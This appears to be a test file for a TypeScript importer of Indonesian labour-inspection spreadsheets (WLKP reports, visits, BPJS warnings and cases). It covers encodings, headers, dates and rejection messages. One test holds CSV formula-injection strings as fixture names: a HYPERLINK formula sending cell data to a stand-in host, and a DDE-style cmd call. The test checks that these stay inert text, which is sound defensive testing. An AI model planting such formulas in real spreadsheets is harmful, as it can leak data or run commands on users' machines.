import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { villageFinder } from '../../employers/geography';
import { BONTANG_DISTRICTS, BONTANG_PLACE_WORDS, BONTANG_VILLAGES } from '../../employers/seed/bontang-geography';
import { readFileOfKind } from './read-file';
import type { ImportKind, ReadFile, RowOfKind } from './rows';

const geography = villageFinder({
  districts: BONTANG_DISTRICTS,
  villages: BONTANG_VILLAGES,
  placeWords: BONTANG_PLACE_WORDS,
});

async function read<Kind extends ImportKind>(bytes: Buffer, kind: Kind): Promise<ReadFile<RowOfKind[Kind]>> {
  const result = await readFileOfKind(bytes, kind, geography);
  if (result.outcome !== 'read') throw new Error(result.detail);
  return result;
}

const fixture = (name: string) => readFileSync(join('test/fixtures/data', name));
const csv = (...lines: string[]) => Buffer.from(lines.join('\r\n'));

describe('the labour reports of 2026', () => {
  let file: ReadFile<RowOfKind['wlkp']>;
  beforeAll(async () => {
    file = await read(fixture('wlkp-2026.csv'), 'wlkp');
  });

  it('are 763 rows of text, every one of them usable or told why not', () => {
    expect(file.total).toBe(763);
    expect(file.rows.length + file.rejected.length + file.repeats.length).toBe(763);
    expect(file.rejected.map(({ reasons }) => reasons)).toEqual([]);
  });

  it('speak of the day of the newest report, since no title says so', () => {
    expect(file.asOf).toBe(
      file.rows
        .map((row) => row.reportedOn)
        .sort()
        .at(-1),
    );
  });

  it('keep addresses with semicolons in them, wages with cents and days in words', () => {
    expect(file.rows.find((row) => row.name === 'CV. Cipta Wijaya Mandiri')).toMatchObject({
      address: 'Jl Catelya No. 134,; RT.45',
      workers: 82,
      lowestWage: 4_502_500,
      reportedOn: '2026-01-06',
      saidRegistered: 82,
    });
  });
});

describe('cells that look like formulas', () => {
  it('stay the text they are, and are no numbers', async () => {
    const file = await read(fixture('rumus.csv'), 'wlkp');

    expect(file.rows.map((row) => row.name)).toEqual([
      '=HYPERLINK("http://contoh.example/?n="&A2;"Klik di sini")',
      '@SUM(1+1)*2',
      "-2+3+cmd|' /C echo'!A0",
      '=2*3',
      '@Rumah Laundry',
    ]);
    expect(file.rows[1]!.address).toBe('+Jl. KS Tubun No. 8');
    expect(file.rejected).toMatchObject([
      {
        rowNo: 6,
        name: 'CV +Plus Cahaya Abadi',
        reasons: ['Jml TK L “-1” bukan bilangan.', 'Jml TK P “+4” bukan bilangan.'],
      },
    ]);
  });
});

describe('a file in Windows-1252', () => {
  it('keeps its letters', async () => {
    const file = await read(fixture('latin1.csv'), 'wlkp');
    expect(file.rows.map((row) => row.name)).toEqual([
      'Kafé Cahaya Indah',
      'CV. Señja Bahari',
      'Pâtisserie Mutiara “Timur”',
      'UD Müller Jaya',
    ]);
    expect(file.rows[0]!.address).toBe('Jl. Ahmad Yani Nº 12 – RT 04');
  });
});

describe('the visits of 2025', () => {
  let file: ReadFile<RowOfKind['visits-legacy']>;
  beforeAll(async () => {
    file = await read(fixture('kunjungan-2025-legacy.xlsx'), 'visits-legacy');
  });
  const day = (rowNo: number) => {
    const { visitedOn, dayAsWritten } = file.rows.find((row) => row.rowNo === rowNo)!;
    return [visitedOn, dayAsWritten];
  };

  it('are 320 rows below the lines of their months', () => {
    expect(file).toMatchObject({ total: 320, headerRow: 3 });
    expect(file.asOf).toMatch(/^2025-12-/);
    expect(file.rejected).toEqual([]);
  });

  it('have a day as far as one was written', () => {
    expect(day(5)).toEqual(['2025-01-06', null]);
    expect(day(8)).toEqual(['2025-01-08', null]);
    expect(day(12)).toEqual(['2025-01-08', 'mgg ke-2 januari']);
    expect(day(13)).toEqual(['2025-01-14', null]);
    expect(day(14)).toEqual(['2025-01-15', '15 s/d 16 Jan 2025']);
    expect(day(16)).toEqual(['2025-01-01', 'JANUARI']);
    expect(file.rows.filter((row) => row.visitedOn === null)).toEqual([]);
  });
});

describe('a quote that is never closed', () => {
  it('does not swallow the rest of the file', async () => {
    const file = await read(
      csv(
        'Nomor WLKP;Nama Perusahaan;Jml TK L;Jml TK P;Tanggal Lapor',
        '1;"Toko Maju;3;4;02/03/2026',
        '2;PT Dua 3" Pipa;1;0;03/03/2026',
        '',
        '4;PT Empat;1;0;03/03/2026',
      ),
      'wlkp',
    );
    expect(file.rows.map((row) => [row.rowNo, row.name])).toEqual([
      [2, '"Toko Maju'],
      [3, 'PT Dua 3" Pipa'],
      [5, 'PT Empat'],
    ]);
  });
});

describe('a header over two lines', () => {
  it('is read with the upper line over the columns to its right', async () => {
    const file = await read(
      csv(
        'LAPORAN;;;;;',
        'Nomor WLKP;Nama Perusahaan;Tenaga Kerja;;Upah;Tanggal Lapor',
        ';;L;P;Terendah;',
        '1;PT Satu;3;4;3900000;02/03/2026',
        '2;PT Dua;1;0;3900000;3 Mar 2026',
      ),
      'wlkp',
    );
    expect(file.headerRow).toBe(3);
    expect(file.rows.map((row) => [row.name, row.workers, row.lowestWage])).toEqual([
      ['PT Satu', 7, 3_900_000],
      ['PT Dua', 1, 3_900_000],
    ]);
  });
});

describe('the lists of BPJS and of cases under way', () => {
  it('read acts with commas between the cells', async () => {
    const file = await read(
      csv(
        'NPP,DIV,Nama Perusahaan,Tindakan,Nomor Surat,Tanggal Surat,Jangka (hari),Diterima Tanggal,Bukti Terima',
        'BB012345,,PT Satu,Teguran I,B/1/2026,02/03/2026,10,04/03/2026,"Sdri. Ani, resepsionis"',
        'BB012345,000,PT Satu,surat teguran ke-2,B/2/2026,2026-03-20,,,',
        'BB012345,,PT Satu,Pujian,,31/13/2026,,,',
      ),
      'bpjs-acts',
    );
    expect(file.rows).toMatchObject([
      {
        ...{
          npp: 'BB012345',
          division: null,
          act: 'WARNING_1',
          number: 'B/1/2026',
          datedOn: '2026-03-02',
          periodDays: 10,
        },
        ...{ receivedOn: '2026-03-04', proof: 'Sdri. Ani, resepsionis' },
      },
      { division: '000', act: 'WARNING_2', datedOn: '2026-03-20', periodDays: null, receivedOn: null, proof: null },
    ]);
    expect(file.rejected[0]!.reasons).toEqual([
      'Tindakan “Pujian” tidak dikenal. Tulis Teguran I, Teguran II, Denda, atau Permohonan.',
      'Nomor surat belum diisi.',
      'Tanggal “31/13/2026” tidak dapat dibaca.',
    ]);
  });

  it('take an answer only with a number and a yes or no', async () => {
    const file = await read(
      csv(
        'NIB;NPWP;NPP;Nama Perusahaan;Terdaftar Secara Nasional (ya/tidak);Dipenuhi Sejak;Tanggal Jawaban;Keterangan',
        "'9120304511872;;;PT Satu;ya;1 Maret 2026;05/03/2026;kantor pusat Samarinda",
        '9120304511872;;;PT Satu;tidak;;;',
        ';;;PT Dua;tidak;;;',
        '9120304511873;;;PT Tiga;mungkin;;;',
      ),
      'bpjs-answers',
    );
    expect(file.rows).toMatchObject([
      {
        registeredNationally: true,
        curedSince: '2026-03-01',
        answeredOn: '2026-03-05',
        remark: 'kantor pusat Samarinda',
      },
    ]);
    expect(file.rejected.map(({ reasons }) => reasons)).toEqual([
      ['Nomor-nomor usaha sama dengan baris 2, tetapi isinya berbeda.'],
      ['Isi NIB, NPWP, atau NPP: nama saja tidak cukup.'],
      ['Jawaban “mungkin” tidak dikenal. Tulis “ya” atau “tidak” pada kolom terdaftar.'],
    ]);
  });

  it('know the sheet with our questions when it comes back, and wonder at nothing in it', async () => {
    const file = await read(
      csv(
        'NIB;Nama Perusahaan;NPWP tersamar;Alamat;Kelurahan;Pekerja dilaporkan;Dilaporkan menurut;Terdaftar secara nasional (ya/tidak);Dipenuhi sejak;Keterangan',
        '9120304511872;PT Satu;09**********4000;Jl. Melati 1;Guntung;6;OSS per 31 Oktober 2026;tidak;;',
      ),
      'bpjs-answers',
    );
    expect(file).toMatchObject({ unknown: [], notes: [], rows: [{ name: 'PT Satu', registeredNationally: false }] });
  });

  it('read a case with the acts that have a date', async () => {
    const file = await read(
      csv(
        'Nomor Berkas;Nama Perusahaan;NIB;Temuan;Tanggal Mulai;No Teguran I;Tgl Teguran I;Terima Teguran I;No Teguran II',
        'K-7;PT Satu;9120304511872;PWBD, PDS TK;05/01/2026;B/1;02/03/2026;04/03/2026;',
        'K-8;PT Dua;;bandel;05/01/2026;;;;B/2',
      ),
      'cases-running',
    );
    expect(file.rows).toMatchObject([
      {
        findings: ['PWBD', 'PDS_TK'],
        openedOn: '2026-01-05',
        acts: [{ kind: 'WARNING_1', number: 'B/1', datedOn: '2026-03-02', receivedOn: '2026-03-04' }],
      },
    ]);
    expect(file.rejected[0]!.reasons).toEqual([
      'Temuan “bandel” tidak dikenal. Tulis PWBD, PDS TK, PDS Upah, PDS Program, atau Tunggakan.',
      'Teguran II: tanggalnya belum diisi.',
    ]);
  });
});
